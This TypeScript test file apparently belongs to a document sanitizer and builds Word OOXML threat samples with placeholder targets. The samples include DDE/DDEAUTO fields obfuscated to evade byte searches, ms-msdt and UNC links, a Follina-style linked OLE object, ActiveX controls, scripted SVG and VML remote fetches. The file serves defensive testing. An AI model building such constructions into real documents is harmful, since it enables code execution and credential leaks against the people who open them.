import type { FindingKind } from '../../../../sanitizer/protocol.ts'
import { KEPT, MARKER, officeType, R, run, text } from '../office-package.ts'
import { blob, EVIL, type Payload } from './model.ts'

/** What runs, fetches or hides in a line of text: by name, what the inspection may call it, and the runs. */
export type Threat = readonly [name: string, seen: readonly FindingKind[], payload: Payload]

const code = (inner: string, tag = 'instrText'): string => run(`<w:${tag} xml:space="preserve">${inner}</w:${tag}>`)
const mark = (type: string): string => run(`<w:fldChar w:fldCharType="${type}"/>`)
export const field = (codes: string, result = text(KEPT)): string => `${mark('begin')}${codes}${mark('separate')}${result}${mark('end')}`
const SERVER = ` c:\\\\windows\\\\${MARKER} "/k ${MARKER}" `
const letters = (words: string): string => [...words].map((letter) => code(letter)).join('')

/** The same call of another program, spelt so that a search for `DDEAUTO` in the bytes does not see it (threats §3.3, fields). */
const dde: Readonly<Record<string, string>> = {
  'DDE field': field(code(` DDE${SERVER}`)),
  'DDEAUTO field cut into single letters': field(letters(' DDEAUTO') + code(SERVER)),
  'DDE in mixed case': field(code(` dDeAuTo${SERVER}`)),
  'DDE in a simple field': `<w:fldSimple w:instr="DDE ${MARKER}">${text(KEPT)}</w:fldSimple>`,
  'DDE in a simple field, by references': `<w:fldSimple w:instr="&#68;&#x44;E ${MARKER}">${text(KEPT)}</w:fldSimple>`,
  'DDE in CDATA': field(code(`<![CDATA[ DDEAUTO ${MARKER} ]]>`)),
  'DDE half in CDATA': field(code(` D<![CDATA[DE ]]>${MARKER}`)),
  'DDE by character references': field(code(` &#68;&#x44;&#0069;AUTO ${MARKER}`)),
  'DDE around a comment': field(code(` DD<!-- ${MARKER} -->EAUTO ${MARKER}`)),
  'DDE around an instruction of XML': field(code(` D<?x ${MARKER}?>DE ${MARKER}`)),
  'DDE as plain text of a code': field(run(`<w:t> DDEAUTO${SERVER}</w:t>`)),
  'DDE as deleted code': field(code(` DDEAUTO${SERVER}`, 'delInstrText')),
  'DDE as the condition of an IF': field(code(' IF ') + field(code(` DDE${SERVER}`)) + code(' = 1 "a" "b" ')),
  'DDE in the result of a page number': field(code(' PAGE '), field(code(` DDE${SERVER}`))),
}
const nested: Readonly<Record<string, string>> = {
  'name of a field from a QUOTE': field(field(code(' QUOTE 68 68 69 '), text('x')) + code(SERVER)),
  'half of a name from a QUOTE': field(code(' DD') + field(code(' QUOTE 69 '), text('x')) + code(SERVER)),
  'address of a link from a QUOTE': field(code(' HYPERLINK ') + field(code(` QUOTE "file:///${MARKER}" `), text('x'))),
  'name of a field from a MERGEFIELD': field(field(code(` MERGEFIELD ${MARKER} `), text('x')) + code(SERVER)),
  'field that never ends': mark('begin') + code(` DDE${SERVER}`),
  'field that ends and never begins': code(` DDE${SERVER}`) + mark('separate') + mark('end'),
}
/** `PAGE` for one reader, `DDE` for another: what is read together depends on the side, the story or the change that a reader takes. */
const change = (tag: string, runs: string): string => `<w:${tag} w:id="9" w:author="a">${runs}</w:${tag}>`
const PAGE = code(' PAGE ')
const divided: Readonly<Record<string, string>> = Object.fromEntries(
  Object.entries({
    'one side of an alternative': `<mc:AlternateContent><mc:Choice Requires="wps">${PAGE}</mc:Choice><mc:Fallback>${code(SERVER)}</mc:Fallback></mc:AlternateContent>`,
    'a text box': run(
      `<w:pict><v:shape id="s"><v:textbox><w:txbxContent><w:p>${PAGE}</w:p></w:txbxContent></v:textbox></v:shape></w:pict>`,
    ),
    'the reading above a word': run(`<w:ruby><w:rubyPr/><w:rt>${PAGE}</w:rt><w:rubyBase>${text('x')}</w:rubyBase></w:ruby>`),
    'an equation': `<m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:r><w:instrText> PAGE </w:instrText></m:r></m:oMath>`,
    'what was put in': change('ins', PAGE),
    'what was taken out': change('del', code(' PAGE ', 'delInstrText')),
    'what was moved away': change('moveFrom', PAGE),
    'what is spelt as taken out': code(' PAGE ', 'delInstrText'),
  }).map(([name, first]) => [`DDE behind a PAGE in ${name}`, field(first + code(` DDEAUTO${SERVER}`))]),
)
const fetched = (name: string): readonly [string, string] => [
  `${name} field`,
  field(code(` ${name} "\\\\\\\\${MARKER}\\\\share\\\\x" \\d `)),
]
const fields = Object.fromEntries(
  'INCLUDEPICTURE INCLUDETEXT LINK EMBED IMPORT DATABASE RD AUTOTEXT AUTOTEXTLIST MACROBUTTON GOTOBUTTON ADDIN FILLIN ASK INFO FILENAME USERADDRESS DOCPROPERTY DOCVARIABLE'
    .split(' ')
    .map(fetched),
)
const links: Readonly<Record<string, string>> = {
  'HYPERLINK field to ms-msdt': field(code(` HYPERLINK "ms-msdt:/id ${MARKER}" `)),
  'HYPERLINK field to a share': field(code(` HYPERLINK "\\\\\\\\${MARKER}\\\\x" `)),
  'HYPERLINK field whose place is an address': field(code(` HYPERLINK \\l "file://${MARKER}" `)),
  'HYPERLINK field with a second address': field(code(` HYPERLINK "https://example.jp/" "file:///${MARKER}" `)),
}

const shape = (inner: string, attributes = ''): string => run(`<w:pict><v:shape id="s"${attributes}>${inner}</v:shape></w:pict>`)
const drawing = (inner: string, docPr = ''): string =>
  run(
    `<w:drawing><wp:inline><wp:extent cx="1" cy="1"/><wp:docPr id="1" name="p">${docPr}</wp:docPr><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">${inner}</a:graphicData></a:graphic></wp:inline></w:drawing>`,
  )
const picture = (blip: string): string =>
  `<pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>${blip}</pic:blipFill><pic:spPr/></pic:pic>`
const out = (kind: string, target = EVIL) => ({ rels: [{ id: 'rIdE', type: R + kind, target, external: true as const }] })
const inside = (type: string, path: string, contentType: string, content: string | Uint8Array = blob) => ({
  parts: [{ path, type: contentType, content }],
  rels: [{ id: 'rIdI', type: type.includes(':') ? type : R + type, target: `/${path}` }],
})
const oleFile = inside('oleObject', 'word/embeddings/oleObject1.bin', officeType('oleObject'))
const object = (attributes: string): string => run(`<w:object><o:OLEObject ShapeID="s" ObjectID="_${MARKER}" ${attributes}/></w:object>`)
const control = inside(
  'control',
  'word/activeX/activeX1.xml',
  'application/vnd.ms-office.activeX+xml',
  `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{${MARKER}}"/>`,
)
const linkTo = (target: string): Payload => ({
  content: `<w:hyperlink r:id="rIdE">${text(KEPT)}</w:hyperlink>`,
  ...out('hyperlink', target),
})
const svg = `<a:blip r:embed=""><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><s:svgBlip xmlns:s="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rIdI"/></a:ext></a:extLst></a:blip>`

const webVideo = `<a:extLst><a:ext uri="{C809E66F-F1BF-436E-B5F7-EEA9579F0CBA}"><v15:webVideoPr xmlns:v15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;https://${MARKER}.example/&quot;&gt;" h="1" w="1"/></a:ext></a:extLst>`

const objects: readonly Threat[] = [
  ['OLE package', ['ole-object'], { content: object('Type="Embed" ProgID="Package" r:id="rIdI"'), ...oleFile }],
  ['equation of 2000 as OLE', ['ole-object'], { content: object('Type="Embed" ProgID="Equation.3" r:id="rIdI"'), ...oleFile }],
  [
    'linked OLE object (Follina)',
    ['ole-object'],
    { content: object('Type="Link" ProgID="htmlfile" UpdateMode="Always" r:id="rIdE"'), ...out('oleObject', `${EVIL}.html!`) },
  ],
  [
    'OLE object behind a shape',
    ['ole-object'],
    { content: run(`<w:pict><v:shape id="s"/><o:OLEObject Type="Embed" ObjectID="${MARKER}" r:id="rIdI"/></w:pict>`), ...oleFile },
  ],
  [
    'object of Word 2012',
    ['ole-object'],
    { content: run(`<w:object><w:objectEmbed w:progId="${MARKER}" r:id="rIdI"/></w:object>`), ...oleFile },
  ],
  ['ActiveX control', ['activex'], { content: run(`<w:object><w:control r:id="rIdI" w:name="${MARKER}"/></w:object>`), ...control }],
  ['film', ['multimedia'], { content: run('<w:movie r:id="rIdE"/>'), ...out('video') }],
  [
    'ink',
    ['unknown'],
    {
      content: run('<w:contentPart r:id="rIdI"/>'),
      ...inside('customXml', 'word/ink/ink1.xml', 'application/inkml+xml', `<ink>${MARKER}</ink>`),
    },
  ],
  [
    'altChunk',
    ['alternate-content'],
    { content: '<w:altChunk r:id="rIdI"/>', ...inside('aFChunk', 'word/chunk.mht', 'message/rfc822', `MIME ${MARKER}`) },
  ],
  ['sub-document', ['external-reference'], { content: '<w:subDoc r:id="rIdE"/>', ...out('subDocument') }],
  [
    'element of an unknown extension',
    ['unknown'],
    { content: `<e:run xmlns:e="urn:evil" e:code="${MARKER}">${MARKER}</e:run>${text(KEPT)}` },
  ],
  [
    'data binding',
    ['custom-xml'],
    {
      content: `<w:sdt><w:sdtPr><w:dataBinding w:xpath="/${MARKER}" w:storeItemID="{x}"/></w:sdtPr><w:sdtContent>${text(KEPT)}</w:sdtContent></w:sdt>`,
    },
  ],
]
const pictures: readonly Threat[] = [
  [
    'picture fetched by a link',
    ['external-reference', 'external-relationship'],
    { content: drawing(picture('<a:blip r:link="rIdE"/>')), ...out('image') },
  ],
  ['picture fetched as if embedded', ['external-relationship'], { content: drawing(picture('<a:blip r:embed="rIdE"/>')), ...out('image') }],
  [
    'SVG beside a picture',
    ['unknown'],
    {
      content: drawing(picture(svg)),
      ...inside('image', 'word/media/a.svg', 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg"><script>${MARKER}</script></svg>`),
    },
  ],
  [
    'HTML as a picture',
    ['embedded-file', 'unknown'],
    {
      content: drawing(picture('<a:blip r:embed="rIdI"/>')),
      ...inside('image', 'word/media/image1.png', 'text/html', `<script>${MARKER}</script>`),
    },
  ],
  [
    'program as a picture',
    ['embedded-file'],
    { content: drawing(picture('<a:blip r:embed="rIdI"/>')), ...inside('image', 'word/media/a.png', 'image/png', `MZ${MARKER}`) },
  ],
  [
    'EMF',
    ['unknown', 'embedded-file'],
    { content: drawing(picture('<a:blip r:embed="rIdI"/>')), ...inside('image', 'word/media/a.emf', 'image/x-emf') },
  ],
  ['VML picture from an address', ['external-reference'], { content: shape(`<v:imagedata src="${EVIL}"/>`) }],
  ['VML picture by a linked relationship', ['external-reference'], { content: shape('<v:imagedata r:href="rIdE"/>'), ...out('image') }],
  ['VML fill from an address', ['external-reference'], { content: shape(`<v:fill type="frame" src="${EVIL}" o:althref="${EVIL}"/>`) }],
  [
    'VML stroke from an address',
    ['external-reference', 'unsafe-link'],
    { content: shape(`<v:stroke filltype="frame" src="${EVIL}" o:href="${EVIL}"/>`) },
  ],
  ['VML style that fetches', ['external-reference'], { content: shape('', ` style="background:url(${EVIL})"`) }],
  ['VML link', ['unsafe-link'], { content: shape('', ` href="file:///${MARKER}" target="_blank"`) }],
  ['VML handler', ['action'], { content: shape('', ` onmouseover="${MARKER}()"`) }],
  ['VML with the drawing inside as base64', ['embedded-file'], { content: shape('', ` o:gfxdata="${blob.toString('base64')}"`) }],
  ['VML with an equation inside', ['embedded-file', 'unknown'], { content: shape('', ` equationxml="&lt;x&gt;${MARKER}&lt;/x&gt;"`) }],
  // [MS-DOCX] §2.16: Word plays what stands there as a page.
  ['web video as HTML', ['multimedia'], { content: drawing(picture('<a:blip/>'), webVideo) }],
  [
    'click on a picture',
    ['unsafe-link'],
    { content: drawing(picture('<a:blip/>'), '<a:hlinkClick r:id="rIdE"/>'), ...out('hyperlink', `javascript:${MARKER}`) },
  ],
  [
    'hover over a picture',
    ['external-relationship', 'unsafe-link'],
    { content: drawing(picture('<a:blip/>'), '<a:hlinkHover r:id="rIdE"/>'), ...out('hyperlink', `file:///${MARKER}`) },
  ],
]
const targets = [
  `ms-msdt:/id ${MARKER}`,
  `search-ms:query=x&amp;crumb=location:\\\\${MARKER}`,
  `file://${MARKER}/c$`,
  `\\\\${MARKER}\\x`,
  `vbscript:${MARKER}`,
  `data:text/html,${MARKER}`,
  `mailto:a@${MARKER}\u00a0`,
  `https://example.jp/\u2066${MARKER}`,
]

const named = (seen: readonly FindingKind[], table: Readonly<Record<string, string>>): readonly Threat[] =>
  Object.entries(table).map(([name, content]) => [name, seen, { content }])

export const wordThreats: readonly Threat[] = [
  ...named(['dde'], dde),
  ...named(['field'], { ...fields, ...links }),
  ...named(['field', 'dde'], { ...nested, ...divided }),
  ...objects,
  ...pictures,
  ...targets.map((target): Threat => [`link to ${target.slice(0, 12)}`, ['unsafe-link'], linkTo(target)]),
  ['link whose place is an address', ['unsafe-link'], { content: `<w:hyperlink w:anchor="file://${MARKER}">${text(KEPT)}</w:hyperlink>` }],
  [
    'link into another frame',
    ['unsafe-link'],
    { content: `<w:hyperlink w:anchor="a" w:tgtFrame="${MARKER}" w:docLocation="${MARKER}">${text(KEPT)}</w:hyperlink>` },
  ],
]
